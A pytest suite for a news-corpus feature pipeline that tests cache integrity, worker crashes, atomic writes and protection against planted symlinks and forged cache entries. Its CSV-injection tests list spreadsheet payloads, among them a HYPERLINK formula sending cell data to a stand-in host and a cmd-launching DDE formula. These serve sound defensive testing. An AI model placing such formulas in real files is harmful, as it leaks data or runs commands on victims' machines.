"""The corpus pipeline can never be broken by its cache, a worker's death or one bad article."""

from __future__ import annotations

import json
import os
import signal
import warnings
from pathlib import Path

import pandas as pd
import pytest

from newslib import ArticleError, corpus, iter_articles, tone, usage
from newslib.features import article_features

TEXT = " date 2022-09-21 The minister said the plan would work. Critics disagreed on Monday."


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    articles = tmp_path / "articles"
    articles.mkdir()
    for number in range(3):
        (articles / f"a{number}.txt").write_text(TEXT + f" Item {number} was noted.",
                                                 encoding="utf-8")
    return articles


def fresh(folder: Path) -> pd.DataFrame:
    return corpus.corpus_features(folder, errors=[], cache_dir=None, progress=False)


def entries(cache_dir: Path) -> list[Path]:
    return sorted(cache_dir.rglob("*.json"))


@pytest.mark.parametrize("damage", [b"[1]", b'"text"', b'{"id": "zzz"}', b"\xff\x00garbage",
                                    b"", b"{" * 5000, "tamper"])
def test_damaged_cache_entries_are_recomputed_not_served(folder, tmp_path, damage):
    cache_dir = tmp_path / "cache"
    expected = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert len(entries(cache_dir)) == 3
    for entry in entries(cache_dir):
        if damage == "tamper":  # valid JSON, one number changed
            record = json.loads(entry.read_text("utf-8"))
            record["row"]["words"] += 7
            entry.write_text(json.dumps(record), "utf-8")
        else:
            entry.write_bytes(damage)
    again = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    pd.testing.assert_frame_equal(again, expected)
    assert not again.isna().all(axis=1).any()
    # The recomputed rows were written back, valid again.
    assert all(corpus._Cache(cache_dir).load(json.loads(p.read_text("utf-8"))["key"])
               for p in entries(cache_dir))


def test_valid_entries_are_served_from_the_cache(folder, tmp_path, monkeypatch):
    cache_dir = tmp_path / "cache"
    corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    monkeypatch.setattr(corpus, "_compute", lambda a: pytest.fail("recomputed a cached row"))
    assert len(corpus.corpus_features(folder, errors=[], cache_dir=cache_dir,
                                      progress=False)) == 3


def test_unwritable_cache_folder_switches_the_cache_off_with_one_warning(folder, tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the cache folder should be")
    with pytest.warns(corpus.CacheWarning, match="caching is off for this run") as caught:
        table = corpus.corpus_features(folder, errors=[], cache_dir=blocker / "cache",
                                       progress=False)
    assert len(caught) == 1
    pd.testing.assert_frame_equal(table, fresh(folder))


def test_cache_write_failure_midway_falls_back_to_no_cache(folder, tmp_path):
    cache_dir = tmp_path / "cache"
    cache_dir.mkdir()
    for prefix in range(256):  # every entry's sub-folder is taken by a file
        (cache_dir / f"{prefix:02x}").write_bytes(b"")
    with pytest.warns(corpus.CacheWarning) as caught:
        table = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert len(caught) == 1 and "cannot be written" in str(caught[0].message)
    pd.testing.assert_frame_equal(table, fresh(folder))


def test_no_warning_when_the_cache_works(folder, tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("error", corpus.CacheWarning)
        corpus.corpus_features(folder, errors=[], cache_dir=tmp_path / "cache", progress=False)


def test_cache_key_follows_settings_and_library_versions(folder, monkeypatch):
    article = next(iter_articles(folder))
    before = corpus.cache_key(article)
    monkeypatch.setattr(tone, "NEUTRAL_BAND", tone.NEUTRAL_BAND + 0.01)
    assert corpus.cache_key(article) != before
    monkeypatch.undo()
    assert corpus.cache_key(article) == before
    monkeypatch.setattr(usage, "TYPO_ZIPF_GAP", usage.TYPO_ZIPF_GAP + 1)
    assert corpus.cache_key(article) != before
    monkeypatch.undo()
    monkeypatch.setattr(corpus, "library_versions", lambda: {"textblob": "0.0"})
    assert corpus.cache_key(article) != before


def test_settings_are_gathered_by_name_not_listed():
    settings = corpus.tunable_settings()
    assert settings["newslib.tone.NEUTRAL_BAND"] == repr(tone.NEUTRAL_BAND)
    assert "newslib.usage.TYPO_ZIPF_GAP" in settings
    assert not any(name.rsplit(".", 1)[1].startswith("_") for name in settings)
    assert set(corpus.library_versions()) == set(corpus.SCORING_LIBRARIES)


def test_one_failing_article_becomes_its_error_and_the_rest_go_on(folder, monkeypatch):
    def compute(article):
        if article.id == "a1":
            raise ZeroDivisionError("division by zero\nsecond line")
        return article_features(article)

    monkeypatch.setattr(corpus, "_compute", compute)
    errors: list[ArticleError] = []
    table = corpus.corpus_features(folder, errors=errors, cache_dir=None, progress=False)
    assert table["id"].tolist() == ["a0", "a2"]
    assert [str(e) for e in errors] == [
        f"{folder / 'a1.txt'}: could not be analysed (ZeroDivisionError: division by zero "
        "second line)"]
    with pytest.raises(ArticleError, match="could not be analysed"):
        corpus.corpus_features(folder, cache_dir=None, progress=False)


def test_failing_article_in_a_worker_process_is_reported(folder, monkeypatch):
    def compute(article):
        if article.id == "a1":
            raise ValueError("bad article")
        return article_features(article)

    monkeypatch.setattr(corpus, "_compute", compute)  # inherited by forked workers
    errors: list[ArticleError] = []
    table = corpus.corpus_features(folder, errors=errors, cache_dir=None, n_jobs=2,
                                   progress=False)
    assert table["id"].tolist() == ["a0", "a2"]
    assert [e.problem for e in errors] == ["could not be analysed (ValueError: bad article)"]


def test_killed_worker_loses_nothing(folder, tmp_path, monkeypatch):
    marker = tmp_path / "killed"

    def compute(article):
        if article.id == "a1" and not marker.exists():  # like the OOM killer, once
            marker.write_text("x")
            os.kill(os.getpid(), signal.SIGKILL)
        return article_features(article)

    monkeypatch.setattr(corpus, "_compute", compute)
    errors: list[ArticleError] = []
    table = corpus.corpus_features(folder, errors=errors, cache_dir=None, n_jobs=2,
                                   progress=False)
    assert marker.exists() and errors == []
    monkeypatch.undo()
    pd.testing.assert_frame_equal(table, fresh(folder))


def test_article_that_kills_its_worker_every_time_is_reported(folder, monkeypatch):
    def compute(article):
        if article.id == "a1":
            os.kill(os.getpid(), signal.SIGKILL)
        return article_features(article)

    monkeypatch.setattr(corpus, "_compute", compute)
    errors: list[ArticleError] = []
    table = corpus.corpus_features(folder, errors=errors, cache_dir=None, n_jobs=2,
                                   progress=False)
    assert table["id"].tolist() == ["a0", "a2"]
    assert [e.problem for e in errors] == [
        "its worker process died twice (out of memory or killed); not analysed"]


def test_write_table_never_leaves_a_truncated_file(tmp_path, monkeypatch):
    target = tmp_path / "out.csv"
    target.write_text("old,complete\n1,2\n")
    table = pd.DataFrame({"a": range(3)})

    def full_disk(self, handle, *args, **kwargs):
        handle.write("a\n0\n")  # half written, then the disk is full
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full_disk)
    with pytest.raises(OSError):
        corpus.write_table(table, target)
    assert target.read_text() == "old,complete\n1,2\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    monkeypatch.undo()
    corpus.write_table(table, target)
    assert target.read_text() == "a\n0\n1\n2\n"
    assert oct(target.stat().st_mode & 0o777) == oct(0o666 & ~corpus._umask())


# -- Temporary files nobody else can plant ------------------------------------------------------

def plant_link(link: Path, victim: Path) -> None:
    victim.write_text("the victim's own file\n")
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(victim)


def test_a_link_planted_where_the_output_is_staged_is_never_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    plant_link(tmp_path / f".out.csv.{os.getpid()}.tmp", victim)  # the name used before
    plant_link(tmp_path / f".out.parquet.{os.getpid()}.tmp", tmp_path / "victim2.txt")
    corpus.write_table(pd.DataFrame({"a": [1]}), tmp_path / "out.csv")
    corpus.write_table(pd.DataFrame({"a": [1]}), tmp_path / "out.parquet")
    assert victim.read_text() == "the victim's own file\n"
    assert (tmp_path / "victim2.txt").read_text() == "the victim's own file\n"
    assert (tmp_path / "out.csv").read_text() == "a\n1\n"
    assert not (tmp_path / "out.csv").is_symlink()


def test_links_planted_in_the_cache_are_never_followed(folder, tmp_path):
    cache_dir = tmp_path / "cache"
    victim = tmp_path / "victim.txt"
    plant_link(cache_dir / f".probe-{os.getpid()}", victim)  # the probe's name before
    key = corpus.cache_key(next(iter_articles(folder)))
    second = tmp_path / "victim2.txt"
    plant_link(cache_dir / key[:2] / f"{key}.{os.getpid()}.tmp", second)  # an entry's before
    with warnings.catch_warnings():
        warnings.simplefilter("error", corpus.CacheWarning)
        table = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert len(table) == 3
    assert victim.read_text() == "the victim's own file\n"
    assert second.read_text() == "the victim's own file\n"
    assert corpus._Cache(cache_dir).load(key) is not None  # the entry was stored all the same


def test_feature_rows_keep_outlet_title_and_a_relative_path(tmp_path, monkeypatch):
    table_path = tmp_path / "news.csv"
    table_path.write_text("id,date,source,title,text\n"
                          "o1,2022-09-21,Evening Post,Plans,The minister said it would work.\n"
                          "o2,2022-09-22,,,No outlet for this one.\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    for cache_dir in (None, tmp_path / "cache", tmp_path / "cache"):  # fresh, stored, served
        table = corpus.corpus_features(table_path, errors=[], cache_dir=cache_dir,
                                       progress=False)
        assert table["source"].fillna("").tolist() == ["Evening Post", ""]
        assert table["title"].fillna("").tolist() == ["Plans", ""]
        assert table["path"].tolist() == ["news.csv:row 2", "news.csv:row 3"]
    dask_table, errors = corpus.dask_feature_table(table_path, scheduler="sync")
    assert errors == [] and dask_table["source"].tolist()[0] == "Evening Post"
    assert dask_table["path"].tolist() == ["news.csv:row 2", "news.csv:row 3"]


def test_path_column_is_never_absolute(folder, tmp_path, monkeypatch):
    monkeypatch.chdir(folder.parent)  # an absolute folder inside the working directory
    table = corpus.corpus_features(folder.resolve(), errors=[], cache_dir=None, progress=False)
    assert table["path"].tolist()[0] == "articles/a0.txt"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)  # outside it: named from the folder given
    table = corpus.corpus_features(folder.resolve(), errors=[], cache_dir=None, progress=False)
    assert table["path"].tolist()[0] == "articles/a0.txt"
    monkeypatch.chdir(folder)
    table = corpus.corpus_features(folder.resolve(), errors=[], cache_dir=None, progress=False)
    assert table["path"].tolist() == ["a0.txt", "a1.txt", "a2.txt"]


def test_dask_reports_a_failing_article_and_keeps_the_others(folder, monkeypatch):
    def compute(article):
        if article.id == "a1":
            raise RuntimeError("boom")
        return article_features(article)

    monkeypatch.setattr(corpus, "_compute", compute)
    table, errors = corpus.dask_feature_table(folder, scheduler="sync")
    assert table["id"].tolist() == ["a0", "a2"]
    assert errors == [f"{folder / 'a1.txt'}: could not be analysed (RuntimeError: boom)"]


# -- CSV a spreadsheet opens safely (OWASP: CSV injection) ---------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1, "click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\tindented", "\rreturn"]


def read_cells(path: Path) -> list[list[str]]:
    import csv

    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
    safe = ["plain", "a=b", " =1+1", "-3", "+1.5e3", "'quoted", ""]
    table = pd.DataFrame({"text": FORMULAS + safe,
                          "number": [-1.5, -2, 3, 0, 4, -5, 6, 7, 8, 9, 10, 11, 12]})
    corpus.write_table(table, tmp_path / "out.csv")
    rows = read_cells(tmp_path / "out.csv")
    assert rows[0] == ["text", "number"]
    assert [row[0] for row in rows[1:7]] == ["'" + cell for cell in FORMULAS]
    assert [row[0] for row in rows[7:]] == safe  # no trigger first, or only a number: unchanged
    assert [row[1] for row in rows[1:4]] == ["-1.5", "-2.0", "3.0"]  # numbers stay numbers
    back = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)
    assert back["number"].dtype == float and back["number"].iloc[0] == -1.5
    assert [corpus.restore_formulas(cell) for cell in back["text"]] == FORMULAS + safe
    assert table["text"].tolist() == FORMULAS + safe  # the caller's table is not changed


def test_parquet_keeps_the_values_as_they_are(tmp_path):
    table = pd.DataFrame({"text": FORMULAS})
    corpus.write_table(table, tmp_path / "out.parquet")
    assert pd.read_parquet(tmp_path / "out.parquet")["text"].tolist() == FORMULAS


def test_column_names_and_categories_are_neutralised_too():
    table = pd.DataFrame({"=cmd": pd.Categorical(["@x", "y"]), "ok": [1, 2]})
    neutral = corpus.neutralise_formulas(table)
    assert list(neutral.columns) == ["'=cmd", "ok"]
    assert neutral["'=cmd"].tolist() == ["'@x", "y"] and neutral["ok"].tolist() == [1, 2]
    plain = pd.DataFrame({"a": ["x", None], "b": [-1, 2]})
    assert corpus.neutralise_formulas(plain) is plain  # nothing to change: no copy


def test_csv_cells_with_line_breaks_read_back_whole(tmp_path):
    cells = ["one\rtwo", "three\nfour", "five\r\nsix", "plain"]
    corpus.write_table(pd.DataFrame({"text": cells, "n": range(4)}), tmp_path / "out.csv")
    back = pd.read_csv(tmp_path / "out.csv")
    assert back["text"].tolist() == cells and back["n"].tolist() == [0, 1, 2, 3]


# -- A cache nobody else can plant results in ---------------------------------------------------

@pytest.fixture
def own_cache_home(tmp_path, monkeypatch) -> Path:
    """This user's cache folder (where the secret lives), inside the test's folder."""
    from newslib import cache

    home = tmp_path / "home-cache" / "newslib"
    monkeypatch.setattr(cache, "default_cache_dir", lambda: home)
    return home


def count_computed(monkeypatch) -> list[str]:
    computed: list[str] = []

    def compute(article):
        computed.append(article.id)
        return article_features(article)

    monkeypatch.setattr(corpus, "_compute", compute)
    return computed


def test_an_entry_someone_else_wrote_is_not_served(folder, tmp_path, own_cache_home):
    import hashlib
    import hmac

    cache_dir = tmp_path / "cache"
    expected = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    for entry in entries(cache_dir):
        record = json.loads(entry.read_text("utf-8"))
        row = dict(record["row"], words=987654)
        text = json.dumps(row, sort_keys=True)
        record["row"] = row  # signed every way an attacker could: checksum, their own key
        record["checksum"] = hashlib.sha256(text.encode()).hexdigest()
        record["mac"] = hmac.new(b"not the user's secret", (record["key"] + "\0" + text).encode(),
                                 hashlib.sha256).hexdigest()
        entry.write_text(json.dumps(record), "utf-8")
    again = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert 987654 not in again["words"].tolist()
    pd.testing.assert_frame_equal(again, expected)


def test_a_cache_copied_from_someone_else_is_recomputed(folder, tmp_path, monkeypatch):
    from newslib import cache

    shared = tmp_path / "shared-cache"
    monkeypatch.setattr(cache, "default_cache_dir", lambda: tmp_path / "alice")
    corpus.corpus_features(folder, errors=[], cache_dir=shared, progress=False)
    computed = count_computed(monkeypatch)
    monkeypatch.setattr(cache, "default_cache_dir", lambda: tmp_path / "bob")  # another secret
    corpus.corpus_features(folder, errors=[], cache_dir=shared, progress=False)
    assert computed == ["a0", "a1", "a2"]
    computed.clear()
    monkeypatch.setattr(cache, "default_cache_dir", lambda: tmp_path / "alice")
    corpus.corpus_features(folder, errors=[], cache_dir=shared, progress=False)
    assert computed == ["a0", "a1", "a2"]  # bob's rows replaced alice's: hers recomputed too
    computed.clear()
    corpus.corpus_features(folder, errors=[], cache_dir=shared, progress=False)
    assert computed == []  # and now served to her


def test_a_cache_folder_of_another_user_is_not_used(folder, tmp_path, own_cache_home,
                                                    monkeypatch):
    from newslib import cache

    cache_dir = tmp_path / "theirs"
    cache_dir.mkdir(mode=0o700)
    monkeypatch.setattr(cache, "_user_id", lambda: os.stat(cache_dir).st_uid + 1)
    with pytest.warns(corpus.CacheWarning, match="belongs to another user") as caught:
        table = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert len(caught) == 1 and "caching is off for this run" in str(caught[0].message)
    assert entries(cache_dir) == []
    pd.testing.assert_frame_equal(table, fresh(folder))


def test_a_cache_folder_others_can_write_is_not_used(folder, tmp_path, own_cache_home):
    cache_dir = tmp_path / "open"
    cache_dir.mkdir()
    cache_dir.chmod(0o777)
    with pytest.warns(corpus.CacheWarning, match="can be written by other users") as caught:
        table = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert len(caught) == 1 and entries(cache_dir) == []
    pd.testing.assert_frame_equal(table, fresh(folder))
    cache_dir.chmod(0o755)  # others may read, not write: used
    with warnings.catch_warnings():
        warnings.simplefilter("error", corpus.CacheWarning)
        corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert len(entries(cache_dir)) == 3


def test_the_default_cache_is_this_users_own_and_private(folder, own_cache_home):
    corpus.corpus_features(folder, errors=[], progress=False)
    assert len(entries(own_cache_home)) == 3
    assert own_cache_home.stat().st_mode & 0o777 == 0o700
    assert (own_cache_home / "secret.key").stat().st_mode & 0o777 == 0o600
    assert len((own_cache_home / "secret.key").read_bytes()) == 32


def test_entries_that_are_links_or_fifos_are_recomputed_without_hanging(folder, tmp_path,
                                                                        own_cache_home,
                                                                        monkeypatch):
    cache_dir = tmp_path / "cache"
    corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    first, second, _ = entries(cache_dir)
    elsewhere = tmp_path / "valid-entry.json"
    first.rename(elsewhere)
    first.symlink_to(elsewhere)  # a valid entry, but through a link
    second.unlink()
    os.mkfifo(second)  # reading a FIFO would wait for a writer for ever
    computed = count_computed(monkeypatch)
    table = corpus.corpus_features(folder, errors=[], cache_dir=cache_dir, progress=False)
    assert len(computed) == 2 and len(table) == 3
    assert not first.is_symlink() and second.is_file()  # replaced by real entries


def test_a_planted_secret_is_refused(folder, tmp_path, own_cache_home):
    own_cache_home.mkdir(parents=True, mode=0o700)
    (own_cache_home / "secret.key").write_bytes(b"x" * 32)
    (own_cache_home / "secret.key").chmod(0o644)  # readable by others: not a secret
    with pytest.warns(corpus.CacheWarning, match="not a private file") as caught:
        corpus.corpus_features(folder, errors=[], progress=False)
    assert len(caught) == 1 and entries(own_cache_home) == []


# -- Worker processes: never more than cores or articles; Ctrl-C stops them ---------------------

@pytest.fixture
def pools(monkeypatch) -> list[int]:
    """max_workers of every process pool made."""
    made: list[int] = []
    original = corpus.ProcessPoolExecutor

    class Recording(original):
        def __init__(self, max_workers=None, **kwargs):
            made.append(max_workers)
            super().__init__(max_workers=max_workers, **kwargs)

    monkeypatch.setattr(corpus, "ProcessPoolExecutor", Recording)
    return made


def test_workers_are_capped_at_the_articles(folder, pools, monkeypatch):
    monkeypatch.setattr(corpus, "available_cores", lambda: 96)
    table = corpus.corpus_features(folder, errors=[], cache_dir=None, n_jobs=96, progress=False)
    assert pools == [3] and len(table) == 3  # 3 articles: 3 workers, not 96
    pd.testing.assert_frame_equal(table, fresh(folder))


def test_workers_are_capped_at_the_cores(folder, pools, monkeypatch):
    monkeypatch.setattr(corpus, "available_cores", lambda: 2)
    corpus.corpus_features(folder, errors=[], cache_dir=None, n_jobs=5000, progress=False)
    corpus.corpus_features(folder, errors=[], cache_dir=None, n_jobs=-1, progress=False)
    corpus.corpus_features(folder, errors=[], cache_dir=None, n_jobs=2, progress=False)
    assert pools == [2, 2, 2]


def test_one_article_or_one_core_needs_no_worker_process(tmp_path, folder, pools, monkeypatch):
    single = tmp_path / "single"
    single.mkdir()
    (single / "a.txt").write_text(TEXT, encoding="utf-8")
    corpus.corpus_features(single, errors=[], cache_dir=None, n_jobs=8, progress=False)
    monkeypatch.setattr(corpus, "available_cores", lambda: 1)
    corpus.corpus_features(folder, errors=[], cache_dir=None, n_jobs=8, progress=False)
    assert pools == []


@pytest.mark.parametrize("jobs", [0, -2, 2.5, True])
def test_a_number_of_workers_that_means_nothing_is_refused(folder, jobs):
    with pytest.raises(ValueError, match="use 1 or more worker processes, or -1"):
        corpus.corpus_features(folder, errors=[], cache_dir=None, n_jobs=jobs, progress=False)


def test_ctrl_c_stops_the_workers_at_once_and_writes_nothing(folder, tmp_path):
    import subprocess
    import sys
    import time

    started = tmp_path / "started"
    script = f"""
import time
from pathlib import Path
from newslib import cli, corpus

def compute(article):  # a long article: each worker busy for a minute
    Path({str(started)!r}).touch()
    time.sleep(60)

corpus._compute = compute
raise SystemExit(cli.main(["features", {str(folder)!r}, "-o", {str(tmp_path / "out.csv")!r},
                           "-j", "2", "--no-cache", "-q"]))
"""
    process = subprocess.Popen([sys.executable, "-c", script], stderr=subprocess.PIPE,
                               text=True, start_new_session=True)
    deadline = time.monotonic() + 60
    while not started.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert started.exists()
    interrupted = time.monotonic()
    os.killpg(process.pid, signal.SIGINT)  # what Ctrl-C in a terminal does: every process
    _, err = process.communicate(timeout=30)
    assert time.monotonic() - interrupted < 20  # not after the workers' minute
    assert process.returncode == 130
    assert err.splitlines() == ["newslib: interrupted"]  # no traceback from any worker
    assert [p.name for p in tmp_path.iterdir() if p.name != "articles"] == ["started"]
